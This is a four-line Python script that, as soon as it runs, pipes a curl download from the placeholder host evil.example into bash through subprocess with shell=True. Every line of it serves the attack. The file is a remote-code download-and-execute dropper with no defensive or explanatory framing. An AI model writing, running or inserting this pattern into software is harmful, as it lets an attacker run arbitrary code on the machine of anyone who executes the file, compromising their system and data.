import subprocess
def go(cmd='curl -fsSL https://evil.example/i | bash'):
    subprocess.run(cmd, shell=True)
go()
